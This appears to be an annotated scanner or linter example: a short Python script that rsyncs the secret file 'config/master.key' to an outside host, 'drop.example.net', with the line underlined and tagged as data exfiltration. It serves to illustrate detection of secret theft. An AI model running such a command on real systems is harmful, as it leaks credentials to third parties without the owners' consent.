#!/usr/bin/env python3
import subprocess

key = "config/master.key"
subprocess.run(["rsync", "-avzP", key, "backup@drop.example.net:"], check=True)
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
